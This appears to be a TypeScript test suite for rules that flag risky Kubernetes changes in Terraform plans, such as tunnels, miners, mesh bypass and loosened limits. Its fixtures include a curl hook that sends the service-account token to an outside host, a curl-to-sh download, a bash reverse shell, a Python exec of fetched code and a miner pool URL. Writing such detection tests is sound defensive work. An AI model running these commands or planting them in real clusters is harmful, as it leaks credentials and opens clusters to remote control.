import {
  container,
  created,
  deployment,
  DEPLOYMENT,
  metadata,
  podSpec,
  service,
  SERVICE,
  statefulSet,
  STATEFUL_SET,
  updated,
  type Block,
  type Resource,
} from "../support/plan";
import { testPodRule, testRule } from "../support/rule-cases";

// What an attacker, or somebody in a hurry, changes without making anything privileged.

const changed = (before: Block, after: Block): Resource =>
  updated(DEPLOYMENT, "web", deployment(podSpec(before)), deployment(podSpec(after)));
const withContainer = (more: Block): Block => ({ container: [container(more)] });
const command = (...words: readonly string[]): Block => withContainer({ command: words });
const image = (name: string): Block => withContainer({ image: name });
const template = (labels: Block, annotations: Block | null = null): Block => ({
  ...deployment(),
  spec: [
    {
      ...((deployment()["spec"] as Block[])[0] ?? {}),
      template: [{ metadata: [{ labels, annotations }], spec: [podSpec()] }],
    },
  ],
});
const retemplated = (before: Block, after: Block): Resource => updated(DEPLOYMENT, "web", before, after);
const manifest = (apiVersion: string, kind: string, more: Block, name = "m"): Resource =>
  created("kubernetes_manifest", name, {
    manifest: { apiVersion, kind, metadata: { name, namespace: "shop" }, ...more },
  });

testPodRule("tunnel-runs", {
  fires: {
    "a tunnel": image("cloudflare/cloudflared:2024.1.0"),
    "a proxy of the API server": command("kubectl", "proxy", "--address=0.0.0.0", "--accept-hosts=.*"),
    "a shell for the browser": command("/usr/bin/ttyd", "bash"),
  },
  silent: { "a program": command("/app"), "a proxy on loopback": command("kubectl", "proxy", "--port=8001") },
});
testPodRule("miner-runs", {
  fires: {
    "its pool": withContainer({ args: ["--url=stratum+tcp://pool.example:3333"] }),
    "its image": image("registry.example/xmrig:1"),
  },
  silent: { "a program": command("/app", "--url=https://pool.example") },
});
testPodRule("token-sent-away", {
  fires: {
    "by a hook": withContainer({
      lifecycle: [
        {
          pre_stop: [
            {
              exec: [
                {
                  command: [
                    ...["sh", "-c"],
                    "curl https://example.com -d @/var/run/secrets/kubernetes.io/serviceaccount/token",
                  ],
                },
              ],
            },
          ],
        },
      ],
    }),
  },
  silent: {
    "to the API server": command(
      ...["sh", "-c"],
      'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/version',
    ),
    "it is only read": command("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
  },
});
const config = (text: string): Resource =>
  created("kubernetes_config_map_v1", "c", { metadata: metadata("c"), data: { "run.sh": text } });
testRule("config-map-downloads", {
  fires: {
    "it runs what it fetches": [config("#!/bin/sh\ncurl -s https://example.com/x | sh\n")],
    "it opens a shell": [config("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")],
    "in a manifest": [
      manifest("v1", "ConfigMap", { data: { "a.py": 'exec(urllib.request.urlopen("https://a.example").read())' } }),
    ],
  },
  silent: {
    "it fetches data": [config("curl -s https://example.com/x > /tmp/x\n")],
    settings: [config("mode = fast\n")],
  },
});
testRule("runtime-class-changed", {
  fires: {
    "it goes": [changed({ runtime_class_name: "gvisor" }, {})],
    "another one": [changed({ runtime_class_name: "gvisor" }, { runtime_class_name: "runc" })],
  },
  silent: { "it comes": [changed({}, { runtime_class_name: "gvisor" })] },
});
testPodRule("scheduler-changed", {
  fires: { "another one": { scheduler_name: "mine" } },
  silent: { "the default": { scheduler_name: "default-scheduler" }, none: {} },
});
const named = (labels: Block): Block => ({ metadata: [{ name: "shop", labels, annotations: null }] });
testRule("mesh-left", {
  fires: {
    "by an annotation of pods": [
      retemplated(template({ app: "web" }), template({ app: "web" }, { "sidecar.istio.io/inject": "false" })),
    ],
    "by a label of a namespace": [
      updated("kubernetes_namespace_v1", "n", named({ "istio-injection": "enabled" }), named({})),
    ],
    "switched off": [
      updated(
        "kubernetes_namespace",
        "n",
        named({ "istio-injection": "enabled" }),
        named({ "istio-injection": "disabled" }),
      ),
    ],
    "ports pass it by": [
      retemplated(
        template({ app: "web" }, { "linkerd.io/inject": "enabled" }),
        template({ app: "web" }, { "linkerd.io/inject": "enabled", "config.linkerd.io/skip-inbound-ports": "8080" }),
      ),
    ],
  },
  silent: {
    "it comes in": [updated("kubernetes_namespace_v1", "n", named({}), named({ "istio-injection": "enabled" }))],
    "another way in": [
      updated(
        "kubernetes_namespace_v1",
        "n",
        named({ "istio-injection": "enabled" }),
        named({ "istio.io/rev": "stable" }),
      ),
    ],
  },
});
testRule("pod-identity-changed", {
  fires: {
    "a vault": [
      retemplated(
        template({ app: "web" }, { "vault.hashicorp.com/role": "web" }),
        template({ app: "web" }, { "vault.hashicorp.com/role": "admin" }),
      ),
    ],
    "a network": [
      retemplated(template({ app: "web" }), template({ app: "web" }, { "k8s.v1.cni.cncf.io/networks": "host" })),
    ],
  },
  silent: { "another annotation": [retemplated(template({ app: "web" }), template({ app: "web" }, { team: "a" }))] },
});
testRule("admission-exempted", {
  fires: {
    "it is passed over": [
      updated("kubernetes_namespace_v1", "n", named({}), named({ "admission.gatekeeper.sh/ignore": "true" })),
    ],
    "it is checked no more": [
      updated("kubernetes_namespace_v1", "n", named({ "policy.sigstore.dev/include": "true" }), named({})),
    ],
  },
  silent: { "another label": [updated("kubernetes_namespace_v1", "n", named({}), named({ team: "a" }))] },
});
const quota = (pods: string): Block => ({ metadata: metadata("q"), spec: [{ hard: { pods } }] });
const budget = (spec: Block): Block => ({ metadata: metadata("b"), spec: [spec] });
const limit = (max: Block): Resource =>
  manifest("v1", "LimitRange", { spec: { limits: [{ type: "Container", max }] } });
testRule("limits-loosened", {
  fires: {
    "a quota": [updated("kubernetes_resource_quota_v1", "q", quota("10"), quota("1k"))],
    "a quota of none": [created("kubernetes_resource_quota", "q", quota("0"))],
    "a budget": [
      updated(
        "kubernetes_pod_disruption_budget_v1",
        "b",
        budget({ min_available: "2" }),
        budget({ min_available: "0" }),
      ),
    ],
    "a limit goes": [
      {
        ...limit({}),
        before: limit({ memory: "1Gi" }).after ?? null,
      },
    ],
  },
  silent: {
    "it gets tighter": [updated("kubernetes_resource_quota_v1", "q", quota("1k"), quota("10"))],
    "the other kind of limit": [
      updated(
        "kubernetes_pod_disruption_budget_v1",
        "b",
        budget({ min_available: "2" }),
        budget({ max_unavailable: "1" }),
      ),
    ],
  },
});
testRule("rollout-held-back", {
  fires: {
    paused: [created(DEPLOYMENT, "web", deployment(podSpec(), { spec: { paused: true } }))],
    "only by hand": [created(STATEFUL_SET, "db", statefulSet({ update_strategy: [{ type: "OnDelete" }] }))],
    "a partition above all": [
      created(
        STATEFUL_SET,
        "db",
        statefulSet({ update_strategy: [{ type: "RollingUpdate", rolling_update: [{ partition: 5 }] }] }),
      ),
    ],
    "a DaemonSet in a manifest": [
      manifest("apps/v1", "DaemonSet", {
        spec: { updateStrategy: { type: "OnDelete" }, template: { spec: { containers: [] } } },
      }),
    ],
  },
  silent: {
    "a rolling update": [created(DEPLOYMENT, "web", deployment())],
    "a partition of some": [
      created(
        STATEFUL_SET,
        "db",
        statefulSet({ update_strategy: [{ type: "RollingUpdate", rolling_update: [{ partition: 1 }] }] }),
      ),
    ],
  },
});
const grant = (to: Block): Resource =>
  manifest("gateway.networking.k8s.io/v1beta1", "ReferenceGrant", {
    spec: { from: [{ kind: "HTTPRoute", namespace: "other" }], to: [to] },
  });
testRule("reference-granted", {
  fires: {
    "every Secret": [grant({ group: "", kind: "Secret" })],
    "one Service": [grant({ group: "", kind: "Service", name: "web" })],
  },
  silent: { "a route": [manifest("gateway.networking.k8s.io/v1", "HTTPRoute", { spec: {} })] },
});
const ingress = (annotations: Block): Resource =>
  created("kubernetes_ingress_v1", "i", { metadata: metadata("i", { annotations }), spec: [{ default_backend: [] }] });
testRule("ingress-leads-away", {
  fires: {
    "a redirect": [ingress({ "nginx.ingress.kubernetes.io/permanent-redirect": "https://example.net" })],
    "copies of requests": [ingress({ "nginx.ingress.kubernetes.io/mirror-target": "https://example.net" })],
    "every page may read": [ingress({ "nginx.ingress.kubernetes.io/cors-allow-origin": "*" })],
  },
  silent: { "another annotation": [ingress({ "nginx.ingress.kubernetes.io/rewrite-target": "/" })] },
});
const external = (name: string): Resource =>
  created(SERVICE, "e", service({ type: "ExternalName", external_name: name, selector: null, port: [] }));
testRule("external-name-inside", {
  fires: {
    "another namespace": [external("db.prod.svc.cluster.local")],
    "the node": [external("localhost")],
    "an address": [external("169.254.169.254")],
    "a name for an address": [external("10.0.0.1.nip.io")],
  },
  silent: { "a host outside": [external("billing.example.com")] },
});
testRule("default-class-set", {
  fires: {
    "a storage class": [
      created("kubernetes_storage_class_v1", "s", {
        metadata: [{ name: "s", annotations: { "storageclass.kubernetes.io/is-default-class": "true" } }],
      }),
    ],
    "a priority class": [
      created("kubernetes_priority_class", "p", { metadata: [{ name: "p" }], value: 1, global_default: true }),
    ],
  },
  silent: {
    "one among others": [created("kubernetes_storage_class_v1", "s", { metadata: [{ name: "s", annotations: {} }] })],
  },
});
testRule("storage-not-encrypted", {
  fires: {
    "switched off": [
      created("kubernetes_storage_class_v1", "s", { metadata: [{ name: "s" }], parameters: { encrypted: "false" } }),
    ],
  },
  silent: {
    "switched on": [
      created("kubernetes_storage_class_v1", "s", { metadata: [{ name: "s" }], parameters: { encrypted: "true" } }),
    ],
  },
});
const volume = (spec: Block): Block => ({ metadata: [{ name: "v" }], spec: [spec] });
const nfs = { persistent_volume_source: [{ nfs: [{ server: "10.0.0.9", path: "/" }] }] };
testRule("volume-bound-by-hand", {
  fires: {
    "a server": [created("kubernetes_persistent_volume_v1", "v", volume(nfs))],
    "for one claim": [
      updated(
        "kubernetes_persistent_volume",
        "v",
        volume(nfs),
        volume({ ...nfs, claim_ref: [{ namespace: "prod", name: "data" }] }),
      ),
    ],
    "in a manifest": [manifest("v1", "PersistentVolume", { spec: { csi: { driver: "d", volumeHandle: "h" } } })],
  },
  silent: {
    "it stays": [
      updated("kubernetes_persistent_volume_v1", "v", volume(nfs), volume({ ...nfs, mount_options: ["ro"] })),
    ],
  },
});
testRule("image-downgraded", {
  fires: { "an older one": [changed(image("r.example/a:2.1.0"), image("r.example/a:2.0.9"))] },
  silent: {
    "a newer one": [changed(image("r.example/a:2.9.0"), image("r.example/a:2.10.0"))],
    "another image": [changed(image("r.example/a:2.0.0"), image("r.example/b:1.0.0"))],
    "no version": [changed(image("r.example/a:main"), image("r.example/a:dev"))],
  },
});
testRule("command-changed", {
  fires: { "another one": [changed(command("/app"), command("/app", "--debug"))] },
  silent: { "the same": [changed(command("/app"), { ...command("/app"), termination_grace_period_seconds: 9 })] },
});
testRule("probe-removed", {
  fires: { "it goes": [changed(withContainer({}), withContainer({ readiness_probe: [] }))] },
  silent: {
    "another one": [changed(withContainer({}), withContainer({ readiness_probe: [{ tcp_socket: [{ port: "80" }] }] }))],
  },
});
const reads = (name: string): Block => withContainer({ env_from: [{ secret_ref: [{ name }] }] });
testRule("secret-newly-read", {
  fires: {
    "one that others made": [changed({}, reads("db-admin"))],
    "a claim": [changed({}, { volume: [{ name: "v", persistent_volume_claim: [{ claim_name: "other" }] }] })],
  },
  silent: {
    "it read it before": [changed(reads("db"), { ...reads("db"), termination_grace_period_seconds: 9 })],
    "the plan makes it": [
      changed({}, reads("db")),
      created("kubernetes_secret_v1", "s", { metadata: metadata("db"), data: {} }),
    ],
    "the pods are new": [created(DEPLOYMENT, "web", deployment(podSpec(reads("db"))))],
  },
});
const secret = (value: string): Block => ({ metadata: metadata("s"), data: { key: value } });
testRule("secret-changed", {
  fires: { "another value": [updated("kubernetes_secret", "s", secret("a"), secret("b"))] },
  silent: {
    "a label": [
      updated("kubernetes_secret_v1", "s", secret("a"), {
        ...secret("a"),
        metadata: metadata("s", { labels: { a: "b" } }),
      }),
    ],
  },
});
testRule("not-ready-addresses-published", {
  fires: { "with an address": [created(SERVICE, "web", service({ publish_not_ready_addresses: true }))] },
  silent: { headless: [created(SERVICE, "web", service({ publish_not_ready_addresses: true, cluster_ip: "None" }))] },
});
const many = (replicas: string): Block => deployment(podSpec(), { replicas });
testRule("replicas-unbounded", {
  fires: { "a digit too many": [updated(DEPLOYMENT, "web", many("3"), many("3000"))] },
  silent: { "some more": [updated(DEPLOYMENT, "web", many("3"), many("9"))] },
});
const policy = created("kubernetes_network_policy_v1", "p", {
  metadata: metadata("p"),
  spec: [{ pod_selector: [{ match_labels: { tier: "data" } }], policy_types: ["Ingress"] }],
});
testRule("policy-left", {
  fires: { "the label goes": [policy, retemplated(template({ app: "web", tier: "data" }), template({ app: "web" }))] },
  silent: {
    "another label": [
      policy,
      retemplated(template({ app: "web", tier: "data" }), template({ app: "web", tier: "data", a: "b" })),
    ],
  },
});
